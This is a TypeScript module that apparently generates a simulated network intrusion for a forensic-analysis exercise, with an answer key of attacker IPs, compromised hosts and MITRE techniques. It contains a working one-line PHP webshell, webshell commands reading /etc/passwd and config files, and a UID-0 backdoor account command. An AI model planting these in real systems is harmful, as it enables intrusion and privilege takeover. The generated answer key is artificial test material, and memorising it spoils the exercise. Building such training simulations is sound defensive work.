import type { Random } from "ale/contract/random";
import type { ExpectedEvent, Incident } from "../incident.ts";
import { isoTime } from "../incident.ts";
import { servers } from "../network.ts";
import type { Params } from "../params.ts";
import { clientHello, tlsRecords } from "../wire/payloads.ts";
import { agents, upload } from "./benign-web.ts";
import type { Cast } from "./cast.ts";
import { exfiltrate } from "./exfiltrate.ts";
import type { World } from "./world.ts";

/** A planted event; its tag is how evidence is found once the files are numbered. */
export type PlantedEvent = Omit<ExpectedEvent, "evidence"> & { readonly tag: string };

/** Plays the intrusion, stage by stage, and says what an analyst should find. */
export function intrude(
  random: Random,
  world: World,
  cast: Cast,
  params: Params,
): { readonly incident: Incident; readonly events: readonly PlantedEvent[] } {
  const [scout, operator, command] = cast.attackers;
  const events: PlantedEvent[] = [];
  const at = (hours: number): number => Math.floor(world.start + hours * 3600 + random.next() * 500) + 0.25;
  const note = (event: string, host: string, time: number): string => {
    const tag = `${event}@${host}`;
    events.push({ event, host, time, tag });
    return tag;
  };

  const scan = at(3.1);
  const scanTag = note("port_scan", "web01", scan);
  const ports = random.shuffle(Array.from({ length: 140 }, (_unused, index) => 18 + index * 31));
  for (const [index, port] of [22, 80, ...ports].entries()) {
    const isOpen = port === 22 || port === 80;
    world.capture.probe(scan + index * 2.6, scout, servers.web01, port, isOpen, scanTag);
    if (!isOpen) world.filter(scan + index * 2.6, "DROP", scout, servers.web01, port, scanTag);
  }
  reconnoitre(random, world, scout, at(3.7), note);

  const uploadTime = at(5);
  const name = cast.webshell.split("/").at(-1) as string;
  const content = Buffer.from("<?php if(isset($_REQUEST['c'])){system($_REQUEST['c']);} ?>", "latin1");
  const uploadTag = note("webshell_upload", "web01", uploadTime);
  upload(world, { time: uploadTime, ip: scout, agent: agents[0], name, content, tag: uploadTag });

  const shellTime = at(5.4);
  const shellTag = note("webshell_command", "web01", shellTime);
  for (const [index, run] of [
    "id",
    "uname+-a",
    "cat+/etc/passwd",
    "ip+a",
    "ls+/var/www",
    "cat+config.php",
  ].entries()) {
    const request = { time: shellTime + index * 45, ip: operator, method: "GET", status: 200 } as const;
    world.request({
      ...request,
      target: `${cast.webshell}?c=${run}`,
      bytes: 300 + index,
      agent: agents[1],
      tag: shellTag,
    });
  }

  const guess = at(6.5);
  const guessTag = note("ssh_bruteforce", "app01", guess);
  const reach = { host: "app01", address: servers.app01, ip: servers.web01 } as const;
  const users = ["root", "deploy", "svc-deploy", "admin", "app"];
  const count = random.integer(40, 60);
  for (let index = 0; index < count; index++) {
    const user = users[index % users.length] as string;
    const result = user === "root" || user === "svc-deploy" ? "failed" : "invalid";
    world.ssh({ ...reach, time: guess + index * 9, user, result, tag: guessTag });
  }
  const login = at(7);
  const loginTag = note("ssh_login", "app01", login);
  world.ssh({ ...reach, time: login, user: "svc-deploy", result: "password", tag: loginTag });

  const persistence = persist(world, cast, params, at(7.4), note);

  const lateral = at(8.1);
  const lateralTag = note("lateral_movement", "db01", lateral);
  const dbReach = { host: "db01", address: servers.db01, ip: servers.app01 } as const;
  world.ssh({ ...dbReach, time: lateral, user: "dbadmin", result: "publickey", tag: lateralTag });
  world.filter(lateral - 1, "ALLOW", servers.app01, servers.db01, 22, lateralTag);

  const { ip: desk, leases } = cast.target;
  const hop = at(9);
  const workstation = leases[1]?.host as string;
  const hopTag = note("lateral_movement", workstation, hop);
  world.sshTraffic(hop, servers.app01, desk, 60, hopTag);
  world.filter(hop, "ALLOW", servers.app01, desk, 22, hopTag);

  const beacon = at(9.4);
  const beaconTag = note("c2_beacon", workstation, beacon);
  const server = `api.${cast.commandDomain}`;
  for (let index = 0; index < 22; index++) {
    const time = beacon + index * 300 + (index === 0 ? 0 : random.next() * 6);
    world.capture.dns(time - 0.5, desk, server, command, "A", beaconTag);
    const turns = [
      { from: "client" as const, data: clientHello(server, world.bytes(32)) },
      { from: "server" as const, data: tlsRecords(world.bytes(1100)) },
      { from: "client" as const, data: tlsRecords(world.bytes(180)) },
    ];
    world.capture.tcp({ time, client: desk, server: command, port: 443, turns, tag: beaconTag });
    world.filter(time, "ALLOW", desk, command, 443, beaconTag);
  }

  const leak = at(11.6);
  const leakTag = note("exfiltration", "db01", leak);
  const { bytes, end } = exfiltrate(random, world, cast, params, leak, leakTag);
  const isTunnel = params.exfiltration === "dns_tunnel";
  const techniques = ["T1595", "T1190", "T1505.003", "T1110", "T1078", "T1021.004", "T1071.001"];
  const incident: Incident = {
    attacker_ips: [scout, operator, command],
    compromised_hosts: ["web01", "app01", "db01", workstation],
    compromised_accounts: ["svc-deploy@app01", "dbadmin@db01"],
    initial_vector: "unrestricted_file_upload",
    webshell_path: cast.webshell,
    malicious_domains: [cast.commandDomain, ...(isTunnel ? [cast.tunnelDomain] : [])],
    persistence,
    exfiltration: {
      host: "db01",
      channel: params.exfiltration,
      destination: isTunnel ? cast.tunnelDomain : command,
      bytes,
    },
    mitre_techniques: [
      ...techniques,
      persistence.kind === "new_account" ? "T1136.001" : "T1053.003",
      isTunnel ? "T1048" : "T1041",
    ],
    first_activity: isoTime(scan),
    last_activity: isoTime(end),
  };
  return { incident, events };
}

type Note = (event: string, host: string, time: number) => string;

function reconnoitre(random: Random, world: World, ip: string, begin: number, note: Note): void {
  const tag = note("web_scan", "web01", begin);
  const words = [
    "admin",
    "backup",
    "config",
    "db",
    "dev",
    "files",
    "media",
    "phpmyadmin",
    "test",
    "tmp",
    "upload",
    "uploads",
  ];
  for (let index = 0; index < 110; index++) {
    const word = random.pick(words);
    const target =
      index % 2 === 0 ? `/${word}${index}/` : `/${word}.${random.pick(["php", "bak", "old"])}${index}`;
    const request = { time: begin + index * 1.7, ip, method: "GET", agent: agents[0] } as const;
    world.request({ ...request, target, status: 404, bytes: 162, tag });
  }
}

function persist(
  world: World,
  cast: Cast,
  params: Params,
  time: number,
  note: Note,
): Incident["persistence"] {
  const tag = note("persistence", "app01", time);
  const sudo = "sudo: svc-deploy : TTY=pts/2 ; PWD=/tmp ; USER=root ; COMMAND=";
  if (params.persistence === "cron_job") {
    const name = `/etc/cron.d/${cast.account}`;
    world.syslog("app01", time, `${sudo}/usr/bin/tee ${name}`, tag);
    return { host: "app01", kind: "cron_job", name };
  }
  const { account } = cast;
  world.syslog("app01", time, `${sudo}/usr/sbin/useradd -o -u 0 -g 0 ${account}`, tag);
  const made = `new user: name=${account}, UID=0, GID=0, home=/home/${account}, shell=/bin/sh`;
  world.syslog("app01", time + 0.3, `useradd[24117]: ${made}`, tag);
  return { host: "app01", kind: "new_account", name: account };
}
